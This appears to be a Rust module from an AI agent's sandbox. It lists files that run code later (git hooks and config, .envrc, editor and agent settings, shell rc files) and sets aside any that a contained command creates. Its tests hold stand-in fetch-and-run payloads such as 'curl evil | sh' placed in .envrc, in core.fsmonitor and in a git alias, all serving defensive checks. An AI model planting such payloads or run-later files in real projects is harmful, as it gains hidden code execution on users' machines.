//! Files that make something run later without the agent: git's hooks and config (a hook or
//! `core.fsmonitor` runs at the user's next commit), agents' and editors' project settings
//! (MCP servers, tasks), direnv's `.envrc`, and shell start-up files.
//!
//! The box shows the ones that exist read-only ([`crate::view`]); a mount cannot cover a name
//! that does not exist yet, so what a contained command makes anew is found afterwards
//! ([`Watch`]) and set aside; the file tools ask before they write one ([`runs_later`]).

use std::collections::BTreeSet;
use std::path::{Component, Path, PathBuf};

/// The run-later files and folders, relative to an allowed folder or a project directly in it.
pub const RUN_LATER: &[&str] = &[
    ".git/hooks",
    ".git/config",
    ".git/info",
    ".gitmodules",
    ".mcp.json",
    ".vscode",
    ".idea",
    ".claude",
    ".cursor",
    ".codex",
    ".envrc",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
];

/// The run-later files of [`RUN_LATER`] that exist in `root` and in the folders directly in it
/// (links left out: what they point at is judged where it lies).
pub fn run_later(root: &Path) -> Vec<PathBuf> {
    found(root, false)
}

/// [`run_later`], links included (`links`): a link named `.envrc` runs what it points at.
fn found(root: &Path, links: bool) -> Vec<PathBuf> {
    let mut folders = vec![root.to_path_buf()];
    if let Ok(entries) = std::fs::read_dir(root) {
        folders.extend(
            entries
                .flatten()
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| e.path()),
        );
    }
    let mut found = Vec::new();
    for folder in folders {
        for name in RUN_LATER {
            let path = folder.join(name);
            if std::fs::symlink_metadata(&path).is_ok_and(|m| links || !m.file_type().is_symlink())
            {
                found.push(path);
            }
        }
    }
    found
}

/// The entry of [`RUN_LATER`] that `path` is or lies in, at any depth (`a/b/.envrc`,
/// `x/.git/hooks/pre-commit`, `.vscode/tasks.json`).
pub fn runs_later(path: &Path) -> Option<&'static str> {
    let parts: Vec<&std::ffi::OsStr> = path
        .components()
        .filter_map(|c| match c {
            Component::Normal(part) => Some(part),
            _ => None,
        })
        .collect();
    RUN_LATER.iter().copied().find(|entry| {
        let wanted: Vec<&str> = entry.split('/').collect();
        (0..parts.len()).any(|start| {
            parts.len() - start >= wanted.len()
                && wanted
                    .iter()
                    .zip(&parts[start..])
                    .all(|(w, p)| std::ffi::OsStr::new(w) == *p)
        })
    })
}

/// A run-later file a contained command made, and where it was set aside.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SetAside {
    pub path: PathBuf,
    /// Where it is now (`None`: it could not be moved).
    pub moved_to: Option<PathBuf>,
}

/// The run-later files of a box's allowed folders as they were when it started: those made
/// since are set aside (renamed `…​.aai-held`), so nothing the agent wrote runs at the user's
/// next `cd`, commit or editor start. A repository made in the box is left whole (git writes
/// its config and sample hooks), but a hook in it that is not a sample is set aside.
#[derive(Debug)]
pub struct Watch {
    roots: Vec<PathBuf>,
    known: std::sync::Mutex<BTreeSet<PathBuf>>,
}

impl Watch {
    /// Remembers what exists now in `roots`.
    pub fn new(roots: Vec<PathBuf>) -> Self {
        let known = roots.iter().flat_map(|r| found(r, true)).collect();
        Self {
            roots,
            known: std::sync::Mutex::new(known),
        }
    }

    /// Sets aside what was made since the box started, and says what.
    pub fn sweep(&self) -> Vec<SetAside> {
        let Ok(mut known) = self.known.lock() else {
            return Vec::new();
        };
        let mut out = Vec::new();
        for path in self.roots.iter().flat_map(|r| found(r, true)) {
            if known.contains(&path) {
                continue;
            }
            let in_git = path.parent().is_some_and(|p| p.ends_with(".git"))
                && std::fs::symlink_metadata(&path).is_ok_and(|m| !m.file_type().is_symlink());
            if in_git {
                // A repository made in the box: its hooks folder and config are git's own,
                // but a hook that is no sample, and a config that names a program to run,
                // are set aside (git works on without its config).
                if path.ends_with(".git/hooks") {
                    out.extend(hooks_made(&path));
                    continue;
                }
                // Read again after every command: the box does not hold it read-only.
                if !path.ends_with(".git/config") || plain_git_config(&path) {
                    continue;
                }
            }
            let moved_to = set_aside(&path);
            if moved_to.is_none() {
                known.insert(path.clone());
            }
            out.push(SetAside { path, moved_to });
        }
        out
    }
}

/// Whether a new repository's config holds only what `git init` and `git clone` write:
/// nothing in it names a program, a hook folder, a filter, an alias or an include. Read as
/// text, never by running git.
fn plain_git_config(path: &Path) -> bool {
    const PLAIN: &[&str] = &[
        "core.repositoryformatversion",
        "core.filemode",
        "core.bare",
        "core.logallrefupdates",
        "core.ignorecase",
        "core.precomposeunicode",
        "core.symlinks",
        "extensions.objectformat",
        "init.defaultbranch",
        "user.name",
        "user.email",
    ];
    const PER_NAME: &[(&str, &[&str])] = &[
        ("remote", &["url", "fetch", "pushurl"]),
        ("branch", &["remote", "merge", "rebase"]),
    ];
    let Ok(text) = std::fs::read_to_string(path) else {
        return false;
    };
    let mut section: Option<(String, bool)> = None;
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if let Some(header) = line.strip_prefix('[') {
            let Some(header) = header.strip_suffix(']') else {
                return false;
            };
            let (name, named) = match header.split_once(char::is_whitespace) {
                Some((name, rest)) if rest.trim().starts_with('"') => (name, true),
                Some(_) => return false,
                None => (header, false),
            };
            section = Some((name.to_ascii_lowercase(), named));
            continue;
        }
        let Some((name, named)) = &section else {
            return false;
        };
        let key = line
            .split(['=', ' ', '\t'])
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        let plain = if *named {
            PER_NAME
                .iter()
                .any(|(s, keys)| s == name && keys.contains(&key.as_str()))
        } else {
            PLAIN.contains(&format!("{name}.{key}").as_str())
        };
        if !plain {
            return false;
        }
    }
    true
}

/// The hooks of a new repository that are not git's samples, each set aside.
fn hooks_made(hooks: &Path) -> Vec<SetAside> {
    let Ok(entries) = std::fs::read_dir(hooks) else {
        return Vec::new();
    };
    entries
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.extension().is_none_or(|e| e != "sample")
                && p.file_name()
                    .is_some_and(|n| !n.to_string_lossy().ends_with(".aai-held"))
        })
        .map(|path| SetAside {
            moved_to: set_aside(&path),
            path,
        })
        .collect()
}

/// Renames `path` to `path.aai-held` (or `.aai-held-N` when that is taken).
fn set_aside(path: &Path) -> Option<PathBuf> {
    let name = path.file_name()?.to_string_lossy().into_owned();
    (0..100).find_map(|n| {
        let to = path.with_file_name(if n == 0 {
            format!("{name}.aai-held")
        } else {
            format!("{name}.aai-held-{n}")
        });
        if std::fs::symlink_metadata(&to).is_ok() {
            return None;
        }
        std::fs::rename(path, &to).ok().map(|()| to)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_in_a_run_later_place_is_found_at_any_depth() {
        for (path, entry) in [
            ("/w/p/.envrc", Some(".envrc")),
            ("/w/a/b/.git/hooks/pre-commit", Some(".git/hooks")),
            (".vscode/tasks.json", Some(".vscode")),
            ("/w/p/.git/config", Some(".git/config")),
            ("/w/p/.git/HEAD", None),
            ("/w/p/src/main.rs", None),
            ("/w/p/envrc", None),
            ("/w/p/.hooks", None),
        ] {
            assert_eq!(runs_later(Path::new(path)), entry, "{path}");
        }
    }

    #[test]
    fn what_was_made_since_the_start_is_set_aside_and_what_was_there_stays() {
        let dir = tempfile::tempdir().expect("dir");
        let root = dir.path();
        std::fs::write(root.join(".envrc"), "old").expect("envrc");
        std::fs::create_dir_all(root.join("p")).expect("p");
        let watch = Watch::new(vec![root.to_path_buf()]);
        assert!(watch.sweep().is_empty());
        std::fs::write(root.join("p/.envrc"), "curl evil | sh").expect("new");
        std::fs::create_dir_all(root.join("p/.vscode")).expect("vscode");
        std::fs::write(root.join("p/.vscode/tasks.json"), "{}").expect("tasks");
        // A repository made in the box: its own files stay, a hook that is no sample goes.
        std::fs::create_dir_all(root.join("q/.git/hooks")).expect("git");
        std::fs::write(root.join("q/.git/config"), "[core]").expect("config");
        std::fs::write(root.join("q/.git/hooks/pre-commit.sample"), "").expect("sample");
        std::fs::write(root.join("q/.git/hooks/post-checkout"), "evil").expect("hook");
        let swept = watch.sweep();
        let paths: BTreeSet<PathBuf> = swept.iter().map(|s| s.path.clone()).collect();
        assert_eq!(
            paths,
            [
                root.join("p/.envrc"),
                root.join("p/.vscode"),
                root.join("q/.git/hooks/post-checkout")
            ]
            .into_iter()
            .collect()
        );
        assert!(swept.iter().all(|s| s.moved_to.is_some()));
        assert!(root.join("p/.envrc.aai-held").exists());
        assert!(root.join("p/.vscode.aai-held/tasks.json").exists());
        assert!(root.join("q/.git/config").exists());
        assert!(root.join("q/.git/hooks/pre-commit.sample").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc")).ok().as_deref(),
            Some("old")
        );
        // A new repository whose config names a program: the config is set aside; one as
        // `git init` writes it stays. A link named `.envrc` is set aside like a file.
        std::fs::create_dir_all(root.join("r/.git")).expect("r");
        std::fs::write(
            root.join("r/.git/config"),
            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil | sh\n",
        )
        .expect("evil config");
        std::fs::create_dir_all(root.join("s/.git")).expect("s");
        std::fs::write(
            root.join("s/.git/config"),
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.org/r\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
        )
        .expect("plain config");
        std::fs::write(root.join("p/notes.txt"), "curl evil | sh").expect("notes");
        std::os::unix::fs::symlink("notes.txt", root.join("p/.envrc")).expect("link");
        let swept: BTreeSet<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(
            swept,
            [root.join("r/.git/config"), root.join("p/.envrc")]
                .into_iter()
                .collect()
        );
        assert!(root.join("s/.git/config").exists());
        assert!(root.join("r/.git/config.aai-held").exists());
        // Changed by a later command, it is judged again.
        std::fs::write(root.join("s/.git/config"), "[alias]\n\tst = !sh -c evil\n").expect("alias");
        let again: Vec<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
        assert_eq!(again, [root.join("s/.git/config")]);
        // Made again: set aside again, beside the first.
        std::fs::write(root.join("p/.envrc"), "again").expect("again");
        assert_eq!(watch.sweep().len(), 1);
        assert!(root.join("p/.envrc.aai-held-2").exists());
    }
}
